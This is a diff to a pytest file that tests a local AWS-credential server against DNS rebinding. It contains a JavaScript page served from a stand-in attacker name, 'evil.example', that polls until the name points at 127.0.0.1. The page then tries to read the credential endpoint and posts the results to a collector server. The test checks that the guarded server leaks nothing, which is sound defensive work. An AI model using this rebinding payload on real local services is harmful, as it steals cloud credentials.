@@ -7,39 +7,43 @@ import shutil
 import subprocess
 import threading
 from collections.abc import Iterator
+from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from assumed.jobs import endpoint as module
-from assumed.jobs.endpoint import Endpoint
+from process.kit import arn
+from world.daemon import Home, python, role
+from world.fake_sts import FakeSts
 from world.scores import Record
 from world.waiting import eventually
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-TOKEN, CANARY = "the-token-of-this-test", "CanarySecretAccessKey"
+CANARY = "CanarySecretAccessKey"
 NAME = "evil.example"
 """The browser is told that this is 127.0.0.1: what the attacker's own name server would say the second time."""
 
 PAGE = """<!doctype html><script>
-const report = (what, read) => fetch('http://127.0.0.1:%(home)d/report', {method: 'POST', mode: 'no-cors',
-  body: JSON.stringify({what, read})});
-const tries = {
-  'same origin': ['/role/a', {}],
-  'with the token': ['/role/a', {headers: {Authorization: '%(token)s'}}],
-  'across origins': ['http://127.0.0.1:%(port)d/role/a', {}],
-  'across origins with the token': ['http://127.0.0.1:%(port)d/role/a', {headers: {Authorization: '%(token)s'}}],
-  'opaque': ['http://127.0.0.1:%(port)d/role/a', {mode: 'no-cors'}],
-};
+const home = 'http://127.0.0.1:%(home)d/', endpoint = 'http://127.0.0.1:%(port)d/role/a';
+const pause = () => new Promise(done => setTimeout(done, 50));
+const report = (what, read) => fetch(home, {method: 'POST', mode: 'no-cors', body: JSON.stringify({what, read})});
 (async () => {
   await report('loaded', '');
   // Until the name has come to mean somebody else: then the old page's server is gone.
-  for (;;) {
+  for (;; await pause()) {
     try { if ((await fetch('/who', {cache: 'no-store'})).status !== 200) break; } catch (e) {}
-    await new Promise(done => setTimeout(done, 50));
   }
+  let token = '';
+  for (; !token; await pause()) token = await (await fetch(home, {cache: 'no-store'})).text();
+  const known = {headers: {Authorization: token}};
+  const tries = {
+    'same origin': ['/role/a', {}],
+    'with the token': ['/role/a', known],
+    'across origins': [endpoint, {}],
+    'across origins with the token': [endpoint, known],
+    'opaque': [endpoint, {mode: 'no-cors'}],
+  };
   for (const [what, [url, how]] of Object.entries(tries)) {
     let read = '';
     try { const answer = await fetch(url, {cache: 'no-store', ...how}); read = answer.status + await answer.text(); }
@@ -52,18 +56,22 @@ const tries = {
 
 
 class Attacker:
-    """A web server of somebody else's: serves the page, and is told what it could read."""
+    """A web server of somebody else's: serves `page` to everybody, and is told what a page could read."""
 
-    def __init__(self) -> None:
+    def __init__(self, port: int = 0, token: str = "") -> None:
+        """With a `token`: serves it to nobody who does not send that one."""
         self.page = ""
         self.reports: dict[str, str] = {}
         attacker = self
 
         class Handler(BaseHTTPRequestHandler):
             def do_GET(self) -> None:
-                body = attacker.page.encode()
-                self.send_response(200)
+                known = not token or self.headers["Authorization"] == token
+                body = attacker.page.encode() if known else b""
+                self.send_response(200 if known else 401)
                 self.send_header("Content-Type", "text/html")
+                if not token:
+                    self.send_header("Access-Control-Allow-Origin", "*")
                 self.send_header("Content-Length", str(len(body)))
                 self.send_header("Connection", "close")
                 self.end_headers()
@@ -78,7 +86,7 @@ class Attacker:
             def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                 """Silent."""
 
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
         self.port = int(self._server.server_address[1])
         self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
         self._thread.start()
@@ -99,44 +107,73 @@ def servers() -> Iterator[tuple[Attacker, Attacker]]:
         server.close()
 
 
+@contextmanager
+def guarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
+    """`assumed serve` on that port: its token."""
+    sts.rule("*", session_seconds=900)
+    aws_home.configure(role("a", arn("a")))
+    token = aws_home.path / "token"
+    with subprocess.Popen(
+        [python(), "-m", "assumed", "serve", "a", "--port", str(port), "--token-file", str(token), "--json"],
+        env=aws_home.environment(AWS_ENDPOINT_URL_STS=sts.url),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+    ) as process:
+        try:
+            assert process.stdout is not None
+            assert process.stdout.readline(), "it does not serve"
+            yield token.read_text()
+        finally:
+            process.terminate()
+
+
+@contextmanager
+def unguarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
+    """A server that asks for the token and looks at nothing else."""
+    server = Attacker(port, "the-token-of-this-test")
+    server.page = CANARY
+    yield "the-token-of-this-test"
+    server.close()
+
+
 @pytest.mark.slow
 @pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
-@pytest.mark.parametrize("guarded", [True, False])
+@pytest.mark.parametrize("endpoint", [guarded, unguarded])
 def test_a_page_whose_name_has_come_to_mean_the_endpoint_reads_nothing(
-    guarded: bool,
+    endpoint: Any,
     servers: tuple[Attacker, Attacker],
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    aws_home: Home,
+    sts: FakeSts,
     record: Record,
 ) -> None:
-    """Not even one that knew the token. Without the guards it would: this page can do what it is meant to."""
+    """Not even one that knew the token. Of a server without our guards it reads all: the page does what it is meant
+    to."""
     front, home = servers
-    front.page = PAGE % {"home": home.port, "port": front.port, "token": TOKEN}
+    front.page = PAGE % {"home": home.port, "port": front.port}
     assert CHROMIUM is not None
     options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
-    options += ["--disable-component-update", "--disable-sync", "--disable-quic", f"--user-data-dir={tmp_path}/profile"]
+    options += [
+        "--disable-component-update",
+        "--disable-sync",
+        "--disable-quic",
+        f"--user-data-dir={aws_home.path}/profile",
+    ]
     options += [f"--host-resolver-rules=MAP {NAME} 127.0.0.1", "--remote-debugging-port=0"]
-    with (tmp_path / "browser.log").open("w") as log:
+    with (aws_home.path / "browser.log").open("w") as log:
         browser = subprocess.Popen([CHROMIUM, *options, f"http://{NAME}:{front.port}/"], stdout=log, stderr=log)
-    endpoint = None
     try:
         eventually(lambda: "loaded" in home.reports, 40, saying="the page")
         front.close()
-        endpoint = Endpoint(TOKEN, lambda path: (200, {"SecretAccessKey": CANARY}), front.port)
-        if not guarded:
-            monkeypatch.setattr(endpoint, "_hosts", endpoint._hosts | {f"{NAME}:{front.port}".encode()})
-            monkeypatch.setattr(module, "FOREIGN", ())
-            monkeypatch.setattr(module, "FOREIGN_PREFIXES", ())
-        endpoint.start()
-        eventually(lambda: "done" in home.reports, 20, saying="what the page tried")
+        with endpoint(front.port, aws_home, sts) as token:
+            home.page = token
+            eventually(lambda: "done" in home.reports, 20, saying="what the page tried")
     finally:
         browser.terminate()
         browser.wait(20)
-        if endpoint is not None:
-            endpoint.close()
     assert len(home.reports) == 7
-    leaked = [what for what, read in home.reports.items() if CANARY in read]
-    if not guarded:
+    secrets = {CANARY, *sts.secrets()}
+    leaked = [what for what, read in home.reports.items() if any(secret in read for secret in secrets)]
+    if endpoint is unguarded:
         assert leaked == ["with the token"]
         return
     record("endpoint.pages", 1)
